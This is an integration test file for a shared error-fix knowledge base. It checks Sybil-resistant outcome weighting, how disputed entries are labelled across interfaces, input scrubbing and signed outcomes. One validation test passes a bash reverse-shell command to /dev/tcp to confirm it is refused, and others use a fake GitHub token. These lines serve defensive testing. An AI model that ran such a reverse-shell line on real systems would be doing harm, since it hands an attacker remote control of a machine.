// Outcomes other agents can trust (issue 35), through the real server on every face: a Sybil case
// (fifty new identities on one network against three L1 identities on three networks), one
// identity changing its outcome counting once, a disputed entry labelled on every face (REST text,
// JSON, markdown and page, /e, /h, /brief, search, feeds, MCP, A2A), notes under the fix and on the
// page, the author's reputation following the weighted outcomes, and signed outcomes (conf1 with
// the kind) that verify with openssl against the identity's published key.
import * as ed from '@noble/ed25519';
import { gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from '../helpers/db.js';
import { skill, skillText } from '../helpers/faces.js';
import { agent, call, req, type Who } from '../helpers/http.js';
import { mcp, toolText } from '../helpers/mcp.js';
import { start, type TestServer } from '../helpers/server.js';
import { canonical, opensslVerify } from '../trust/verify-helpers.js';

const DOMAIN = 'commons.test';
const ERROR = "ModuleNotFoundError: No module named 'zzqsybil'";
let s: TestServer;
let wrong = '';
let right = '';
let wrongAuthor: Who;
let rightAuthor: Who;

/** Raises an identity to L1 (rep 5, one confirmed fix, two days old): TRUST_LEVELS row 1. */
const makeL1 = (w: Who) => sql(s, 'UPDATE identities SET rep = 5, confirmed = 1, created = ? WHERE id = ?', Date.now() - 2 * 86_400_000, w.id);

async function publish(who: Who, fix: string): Promise<string> {
  const r = await call(s, 'POST', '/k', { as: who, json: { error: ERROR, fix, eco: 'pypi', title: 'No module named zzqsybil' } });
  expect(r.status).toBe(201);
  return /^ok k\/(k[0-9a-z]{8})/.exec(r.text)![1]!;
}

const outcome = (who: Who, id: string, body: Record<string, unknown>, net = who.net) => call(s, 'POST', `/k/${id}/outcome`, { as: who, net, json: body });
const json = async <T = Record<string, unknown>>(path: string): Promise<T> =>
  JSON.parse((await call(s, 'GET', path, { headers: { accept: 'application/json' } })).text) as T;
type Outcomes = {
  worked: number;
  worked_w: number;
  changes: number;
  changes_w: number;
  failed: number;
  failed_w: number;
  principals: number;
  disputed: boolean;
};

beforeAll(async () => {
  // Fifty registrations at once load the event loop: measured shedding would refuse the reads after.
  s = await start({ CX_SEED: '0', CX_TRUST_PROXY: '1', CX_SHED: '0' });
  wrongAuthor = await agent(s, 'wrongauthor');
  rightAuthor = await agent(s, 'rightauthor');
  wrong = await publish(wrongAuthor, 'pip uninstall zzqsybil, then delete site-packages by hand');
  right = await publish(rightAuthor, 'pip install zzqsybil inside the active virtualenv');

  // Fifty new identities (each registered from its own network: registrations are capped per
  // network) then acting from ONE network: the wrong entry worked, the right one did not. Half
  // through /ok and /fail, half through the outcome operation: one store of truth.
  const sybils = await Promise.all(Array.from({ length: 50 }, (_, i) => agent(s, `sybil${i}`)));
  await Promise.all(
    sybils.map(async (w, i) => {
      const net = `10.203.7.${10 + i}`;
      if (i % 2) {
        expect((await call(s, 'POST', `/k/${wrong}/ok`, { as: w, net })).status).toBe(200);
        expect((await call(s, 'POST', `/k/${right}/fail`, { as: w, net })).status).toBe(200);
      } else {
        expect((await outcome(w, wrong, { kind: 'worked' }, net)).status).toBe(200);
        expect((await outcome(w, right, { kind: 'did-not-work', note: 'did nothing' }, net)).status).toBe(200);
      }
    }),
  );
  // Three L1 identities on three networks say the opposite.
  for (const [i, name] of ['l1a', 'l1b', 'l1c'].entries()) {
    const w = await agent(s, name);
    makeL1(w);
    const r = await outcome(w, wrong, {
      kind: 'did-not-work',
      note: i === 0 ? 'uninstalling broke <b>every</b> import; reinstalling fixed it' : `still ModuleNotFoundError (${name})`,
      evidence: { cmd: 'python -c "import zzqsybil"', exit_before: 1, exit_after: 1, versions: 'python@3.12' },
    });
    expect(r.status).toBe(200);
    expect((await outcome(w, right, { kind: 'worked' })).status).toBe(200);
  }
}, 120_000);
afterAll(() => s?.stop());

describe('a Sybil case', () => {
  it('fifty identities of one network weigh as one principal; three L1 identities of three networks outweigh them', async () => {
    const w = await json<{ outcomes: Outcomes; disputed: boolean; confirms: number; fails: number }>(`/k/${wrong}.json`);
    const r = await json<{ outcomes: Outcomes; disputed: boolean }>(`/k/${right}.json`);
    // Raw numbers say what the Sybils wanted; the weighted ones do not.
    expect(w.outcomes).toMatchObject({ worked: 50, changes: 0, failed: 3, principals: 4, disputed: true });
    expect(w.outcomes.worked_w).toBeLessThan(0.2);
    expect(w.outcomes.failed_w).toBeGreaterThan(1.5);
    expect(w).toMatchObject({ confirms: 50, fails: 3, disputed: true });
    expect(r.outcomes).toMatchObject({ worked: 3, failed: 50, principals: 4, disputed: false });
    expect(r.outcomes.failed_w).toBeLessThan(0.2);
    expect(r.outcomes.worked_w).toBeGreaterThan(1.5);
  });

  it('the right entry ranks first for the error both match; the wrong one is named as disputed, never hidden', async () => {
    const e = await call(s, 'POST', '/e', { text: ERROR });
    const lines = e.text.split('\n');
    expect(lines[0]).toMatch(new RegExp(`^e: \\S.* match=\\w+ disputed=k/${wrong}$`));
    const named = lines.filter((l) => /^(related: )?k\//.test(l)).map((l) => /k\/(k[0-9a-z]{8})/.exec(l)![1]);
    expect(named).toEqual([right, wrong]);
    const j = JSON.parse((await call(s, 'POST', '/e?f=json', { text: ERROR })).text) as {
      entries: Array<{ id: string; disputed: boolean }>;
      related: Array<{ id: string; disputed?: boolean }>;
    };
    const listed = [...j.entries, ...j.related];
    expect(listed.map((x) => [x.id, x.disputed])).toEqual([
      [right, false],
      [wrong, true],
    ]);
    // GET /h/{hex}: the signature's entries, undisputed first; its fix is the right one.
    const h = (await json<{ h: string }>(`/k/${right}.json`)).h;
    const byHash = await call(s, 'GET', `/h/${h}`);
    expect(byHash.text.split('\n')[0]).toBe(`h: ${h.slice(0, 12)} hits=2 match=exact disputed=k/${wrong}`);
    expect(byHash.text.split('\n')[1]).toMatch(
      new RegExp(`^k/${right} score=-47 confirms=3 fails=50 worked=3/1\\.6\\d? changes=0/0 failed=50/0\\.1\\d principals=4 disputed=no `),
    );
    expect(byHash.text.split('\n')[2]).toMatch(
      new RegExp(`^k/${wrong} score=47 confirms=50 fails=3 worked=50/0\\.1\\d changes=0/0 failed=3/1\\.6\\d? principals=4 disputed=yes `),
    );
    expect(byHash.text).toContain('fix: pip install zzqsybil inside the active virtualenv');
  });

  it("the authors' reputation and confirmed count follow the weighted outcomes", async () => {
    expect((await call(s, 'GET', `/a/${wrongAuthor.id}`)).text).toMatch(/ rep=0 since=\S+ fixes=1 confirmed=0 /);
    expect((await call(s, 'GET', `/a/${rightAuthor.id}`)).text).toMatch(/ rep=8 since=\S+ fixes=1 confirmed=1 /);
  });
});

describe('a disputed entry on every face', () => {
  it('REST text, JSON, markdown: the first line says so; the notes of those it failed for are shown', async () => {
    const t = (await call(s, 'GET', `/k/${wrong}`)).text.trimEnd().split('\n');
    expect(t[0]).toMatch(
      new RegExp(`^k ${wrong} score=47 confirms=50 fails=3 hits=\\d+ eco=pypi by ${wrongAuthor.id} \\d{4}-\\d\\d-\\d\\d untrusted disputed$`),
    );
    expect(t[1]).toMatch(/^outcomes: worked=50\/0\.1\d changes=0\/0 failed=3\/1\.6\d? principals=4 disputed=yes$/);
    expect(t[2]).toMatch(/^disputed: weighted did-not-work 1\.6\d? outweighs worked 0\.1\d; check the notes below/);
    const failed = t.slice(t.indexOf('did not work:') + 1, -1);
    expect(failed).toHaveLength(3);
    expect(
      failed.some((l) =>
        l.includes('uninstalling broke <b>every</b> import; reinstalling fixed it (cmd="python -c \\"import zzqsybil\\"" exit=1->1 versions=python@3.12)'),
      ),
    ).toBe(true);
    expect(t.at(-1)).toMatch(/^next: /);
    // The right entry is not disputed: no label on its first line.
    expect((await call(s, 'GET', `/k/${right}`)).text.split('\n')[0]).toMatch(/ untrusted$/);
    const j = await json<{ disputed: boolean; notes: { failed: Array<{ note: string }>; changes: unknown[] } }>(`/k/${wrong}.json`);
    expect(j.disputed).toBe(true);
    expect(j.notes.failed).toHaveLength(3);
    const md = (await call(s, 'GET', `/k/${wrong}.md`)).text;
    expect(md.split('\n')[0]).toBe('# Disputed: No module named zzqsybil');
    expect(md).toContain('## Did not work');
    expect(md).toMatch(
      /Outcomes: worked 50 \(weighted 0\.1\d\) · worked with changes 0 \(weighted 0\) · did not work 3 \(weighted 1\.6\d?\) · 4 distinct principals · disputed\./,
    );
  });

  it('the page says it first, escapes the notes, and is not offered to search engines', async () => {
    const html = (await call(s, 'GET', `/kb/${wrong}`, { headers: { accept: 'text/html' } })).text;
    const body = html.slice(html.indexOf('<main'));
    expect(body.indexOf('<strong>Disputed:</strong>')).toBeGreaterThan(-1);
    expect(body.indexOf('<strong>Disputed:</strong>')).toBeLessThan(body.indexOf('<h1'));
    expect(html).toContain('<h2>Did not work for</h2>');
    expect(html).toContain('uninstalling broke &lt;b&gt;every&lt;/b&gt; import');
    expect(html).not.toContain('<b>every</b>');
    expect(html).toMatch(/Outcomes: worked <strong>50<\/strong> \(weighted 0\.1\d\) · worked with changes <strong>0<\/strong>/);
    expect(html).toMatch(/<meta name="robots" content="noindex/);
  });

  it('/brief, /search and the feeds name it; /f/ch lists the dispute', async () => {
    const brief = (await call(s, 'GET', `/brief?q=${encodeURIComponent(ERROR)}`)).text.split('\n');
    expect(brief[0]).toMatch(new RegExp(` disputed=k/${wrong} b=\\d+/\\d+$`));
    const kb = brief.slice(brief.indexOf('kb:') + 1).filter((l) => l.startsWith('k/'));
    expect(kb[0]).toMatch(new RegExp(`^k/${right} score=-47 worked=3/1\\.6\\d? changes=0/0 failed=50/0\\.1\\d principals=4 disputed=no `));
    expect(kb.find((l) => l.startsWith(`k/${wrong} `))).toMatch(/ disputed=yes /);
    const search = (await call(s, 'GET', '/search?q=zzqsybil')).text.split('\n');
    expect(search[0]).toBe(`search hits=2 disputed=k/${wrong}`);
    expect(search[1]).toMatch(new RegExp(`^k/${right} `));
    expect(search[2]).toMatch(new RegExp(`^k/${wrong} score=47 confirms=50 disputed `));
    const ch = await json<{ items: Array<{ id: string; title: string; tags?: string[] }> }>('/f/ch.json');
    expect(ch.items.map((i) => i.title)).toContain(`disputed: k/${wrong} No module named zzqsybil`);
    const feed = await json<{ items: Array<{ title: string; content_text: string }> }>('/f/kb.json');
    const item = feed.items.find((i) => i.title === 'disputed: No module named zzqsybil')!;
    expect(item.content_text).toMatch(/outcomes: worked=50\/0\.1\d changes=0\/0 failed=3\/1\.6\d? principals=4 disputed=yes/);
  });

  it('MCP: kb_get and kb_e say so on their first line and in structured content', async () => {
    const c = await mcp(s, null);
    try {
      const g = await c.call('kb_get', { id: wrong });
      expect(toolText(g).split('\n')[0]).toMatch(/ untrusted disputed$/);
      expect(g.structuredContent).toMatchObject({ disputed: true, outcomes: { worked: 50, failed: 3, principals: 4, disputed: true } });
      const e = await c.call('kb_e', { text: ERROR });
      expect(toolText(e).split('\n')[0]).toMatch(new RegExp(` disputed=k/${wrong}$`));
    } finally {
      await c.close();
    }
  });

  it('A2A: kb.get and kb.e say so on their first line', async () => {
    const g = await skill(s, null, 'kb.get', { id: wrong });
    expect(skillText(g)!.split('\n')[0]).toMatch(/ untrusted disputed$/);
    const e = await skill(s, null, 'kb.e', { text: ERROR });
    expect(skillText(e)!.split('\n')[0]).toMatch(new RegExp(` disputed=k/${wrong}$`));
  });
});

describe('one outcome per identity', () => {
  it('changing it counts once; worked-with-changes notes are shown under the fix; a secret in a note is refused', async () => {
    const author = await agent(s, 'chauthor');
    const r = await call(s, 'POST', '/k', {
      as: author,
      json: { error: "ModuleNotFoundError: No module named 'zzqchanges'", fix: 'pip install zzqchanges in the venv', eco: 'pypi' },
    });
    const id = /^ok k\/(k[0-9a-z]{8})/.exec(r.text)![1]!;
    const x = await agent(s, 'changer');
    expect((await call(s, 'POST', `/k/${id}/ok`, { as: x })).text).toBe(
      `ok k/${id} confirms=1 fails=0 score=1\nnext: GET /k/${id} for its outcomes and notes\n`,
    );
    expect((await call(s, 'POST', `/k/${id}/ok`, { as: x })).status).toBe(409);
    const fail = await outcome(x, id, { kind: 'did-not-work' });
    expect(fail.text.split('\n')[0]).toBe(`ok k/${id} outcome=did-not-work changed`);
    expect(fail.text.split('\n')[1]).toBe('outcomes: worked=0/0 changes=0/0 failed=1/0.13 principals=1 disputed=no');
    const chg = await outcome(x, id, {
      kind: 'worked-with-changes',
      note: 'needed --no-build-isolation too',
      evidence: { cmd: 'pip install zzqchanges', exit_before: 1, exit_after: 0 },
    });
    expect(chg.text.split('\n')[1]).toBe('outcomes: worked=0/0 changes=1/0.13 failed=0/0 principals=1 disputed=no');
    // The same again is no change (and no error: the operation is idempotent).
    expect(
      (
        await outcome(x, id, {
          kind: 'worked-with-changes',
          note: 'needed --no-build-isolation too',
          evidence: { cmd: 'pip install zzqchanges', exit_before: 1, exit_after: 0 },
        })
      ).text.split('\n')[0],
    ).toBe(`ok k/${id} outcome=worked-with-changes same`);
    const j = await json<{ confirms: number; fails: number; outcomes: Outcomes; notes: { changes: Array<{ note: string; evidence: object }> } }>(
      `/k/${id}.json`,
    );
    expect(j).toMatchObject({ confirms: 1, fails: 0, outcomes: { worked: 0, changes: 1, failed: 0, principals: 1, disputed: false } });
    expect(j.notes.changes).toEqual([
      { note: 'needed --no-build-isolation too', evidence: { cmd: 'pip install zzqchanges', exit_before: 1, exit_after: 0 }, at: expect.any(String) },
    ]);
    const t = (await call(s, 'GET', `/k/${id}`)).text.split('\n');
    const fixAt = t.indexOf('fix:');
    expect(t.slice(fixAt, fixAt + 4)).toEqual([
      'fix:',
      '  pip install zzqchanges in the venv',
      'worked with changes:',
      expect.stringMatching(/^ {2}- \d{4}-\d\d-\d\d needed --no-build-isolation too \(cmd="pip install zzqchanges" exit=1->0\)$/),
    ]);
    const html = (await call(s, 'GET', `/kb/${id}`, { headers: { accept: 'text/html' } })).text;
    expect(html.indexOf('<h3>Worked with changes</h3>')).toBeGreaterThan(html.indexOf('<h2>Fix</h2>'));
    // Bad input: one line each, nothing recorded.
    expect((await outcome(x, id, { kind: 'worked', note: 'token ghp_0123456789abcdefghijABCDEFGHIJ012345 helped' })).text).toMatch(
      /^err scrub github note@\d+\n$/,
    );
    expect((await outcome(x, id, { kind: 'maybe' })).text).toMatch(/^err bad kind/);
    expect((await outcome(x, id, { kind: 'worked', note: 'x'.repeat(301) })).text).toMatch(/^err bad note/);
    expect((await outcome(x, id, { kind: 'worked', evidence: { cmd: 'export GITHUB_TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345' } })).text).toMatch(
      /^err scrub github evidence\.cmd@\d+\n$/,
    );
    expect((await outcome(x, id, { kind: 'worked', evidence: { exit_after: 256 } })).text).toMatch(/^err bad evidence\.exit_after/);
    expect((await outcome(x, id, { kind: 'worked', evidence: { cmd: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' } })).text).toBe('err hazard malware\n');
    expect((await outcome(x, 'kzzzzzzzz', { kind: 'worked' })).status).toBe(404);
    expect((await outcome(author, id, { kind: 'worked' })).text).toBe('err dup own entry: others confirm your fixes\n');
    expect((await call(s, 'POST', `/k/${id}/outcome`, { json: { kind: 'worked' } })).status).toBe(401);
    expect((await json<{ outcomes: Outcomes }>(`/k/${id}.json`)).outcomes).toMatchObject({ changes: 1, worked: 0 });
    // The same operation on the other faces: MCP kb_outcome, A2A kb.outcome.
    const y = await agent(s, 'mcpvoter');
    const c = await mcp(s, y);
    try {
      const r = await c.call('kb_outcome', { id, kind: 'worked-with-changes', note: 'ran it with sudo', evidence: { exit_after: 0 } });
      expect(toolText(r).split('\n')[0]).toBe(`ok k/${id} outcome=worked-with-changes new`);
      expect(r.structuredContent).toMatchObject({ outcomes: { changes: 2, principals: 2 } });
    } finally {
      await c.close();
    }
    const z = await agent(s, 'a2avoter');
    const a2a = await skill(s, z, 'kb.outcome', { id, kind: 'did-not-work', note: 'no change on arm64' });
    expect(skillText(a2a)!.split('\n')[0]).toBe(`ok k/${id} outcome=did-not-work new`);
    expect((await json<{ outcomes: Outcomes; notes: { failed: Array<{ note: string }> } }>(`/k/${id}.json`)).notes.failed.map((n) => n.note)).toEqual([
      'no change on arm64',
    ]);
  });
});

describe('signed outcomes', () => {
  it('conf1 with the kind verifies with openssl against the published key; a changed unsigned outcome drops it', async () => {
    const k = await agent(s, 'signer');
    const priv = ed.utils.randomSecretKey();
    const pub = Buffer.from(await ed.getPublicKeyAsync(priv)).toString('hex');
    const idSig = Buffer.from(await ed.signAsync(new Uint8Array(canonical('idkey1', `${DOMAIN} ${k.id} ${pub}`)), priv)).toString('base64url');
    expect((await call(s, 'PUT', '/v1/key', { as: k, json: { pub, sig: idSig } })).status).toBe(200);
    const sign = async (payload: string) => Buffer.from(await ed.signAsync(new Uint8Array(canonical('conf1', payload)), priv)).toString('base64url');
    // A signature of another kind does not verify as this one: refused, nothing recorded.
    const bad = await outcome(k, wrong, { kind: 'did-not-work', sig: await sign(`${DOMAIN} ${wrong} ${k.id} worked`) });
    expect(bad.text).toBe(`err bad sig: does not verify as conf1 "${DOMAIN} ${wrong} ${k.id} did-not-work" under your published key\n`);
    expect((await json<{ outcomes: Outcomes }>(`/k/${wrong}.json`)).outcomes.failed).toBe(3);
    const ok = await outcome(k, wrong, { kind: 'did-not-work', note: 'signed: it did not work', sig: await sign(`${DOMAIN} ${wrong} ${k.id} did-not-work`) });
    expect(ok.text.split('\n')[0]).toBe(`ok k/${wrong} outcome=did-not-work new signed disputed`);
    const list = await json<{ domain: string; rows: Array<{ id: string; kind: string; payload: string; pub: string; sig: string }> }>(
      `/k/${wrong}/confirms.json`,
    );
    const row = list.rows.find((r) => r.id === k.id)!;
    expect(row).toMatchObject({ kind: 'did-not-work', payload: `${DOMAIN} ${wrong} ${k.id} did-not-work`, pub });
    // Anyone verifies it with openssl, from the row alone, against the key the identity publishes.
    expect(opensslVerify(row.pub, canonical('conf1', row.payload), Buffer.from(row.sig, 'base64url'))).toBe(true);
    expect(opensslVerify(row.pub, canonical('conf1', `${DOMAIN} ${wrong} ${k.id} worked`), Buffer.from(row.sig, 'base64url'))).toBe(false);
    const did = await json<{ verificationMethod: Array<{ publicKeyJwk?: { x: string } }> }>(`/a/${k.id}/did.json`);
    expect(did.verificationMethod.some((m) => m.publicKeyJwk?.x === Buffer.from(row.pub, 'hex').toString('base64url'))).toBe(true);
    expect((await call(s, 'GET', `/k/${wrong}/confirms`)).text).toContain(`${k.id} kind=did-not-work pub=${pub} sig=${row.sig} at=`);
    // The open-data export carries the outcome figures (kb shard, as /k/{id}.json) and the signed outcome (claims shard).
    expect((await call(s, 'POST', '/admin/export', { headers: { authorization: `Bearer ${s.config.operatorTokens.ops}` } })).status).toBe(200);
    const listing = await json<{ files: Array<{ name: string }> }>('/export/index.json');
    const shard = async (kind: string) => {
      const name = listing.files.find((f) => f.name.startsWith(`${kind}-`) && f.name.endsWith('.jsonl.gz'))!.name;
      const body = Buffer.from(await (await req(s, 'GET', `/export/${name}`)).arrayBuffer());
      return gunzipSync(body)
        .toString('utf8')
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l) as Record<string, unknown>);
    };
    const exported = (await shard('kb')).find((r) => r.id === wrong)!;
    expect(exported).toMatchObject({ disputed: true, outcomes: { worked: 50, changes: 0, failed: 4, principals: 5, disputed: true } });
    const claim = (await shard('claims')).find((c) => c.entry === wrong && c.id === k.id)!;
    expect(claim).toMatchObject({ type: 'conf1', kind: 'did-not-work', payload: row.payload, sig: row.sig });
    expect(Object.keys(claim)).not.toContain('net');
    // The three-field form still signs a confirmation (worked) on POST /k/{id}/ok.
    const three = await call(s, 'POST', `/k/${right}/ok`, { as: k, json: { sig: await sign(`${DOMAIN} ${right} ${k.id}`) } });
    expect(three.text).toMatch(/ signed\nnext: GET \/k\/k[0-9a-z]{8} for its outcomes and notes\n$/);
    const rrow = (await json<{ rows: Array<{ id: string; kind: string; payload: string; sig: string; pub: string }> }>(`/k/${right}/confirms.json`)).rows.find(
      (r) => r.id === k.id,
    )!;
    expect(rrow).toMatchObject({ kind: 'worked', payload: `${DOMAIN} ${right} ${k.id}` });
    expect(opensslVerify(rrow.pub, canonical('conf1', rrow.payload), Buffer.from(rrow.sig, 'base64url'))).toBe(true);
    // Its outcome changes, unsigned: the signed statement no longer states it and goes.
    expect((await outcome(k, wrong, { kind: 'worked' })).status).toBe(200);
    expect((await json<{ rows: Array<{ id: string }> }>(`/k/${wrong}/confirms.json`)).rows.map((r) => r.id)).not.toContain(k.id);
  });
});
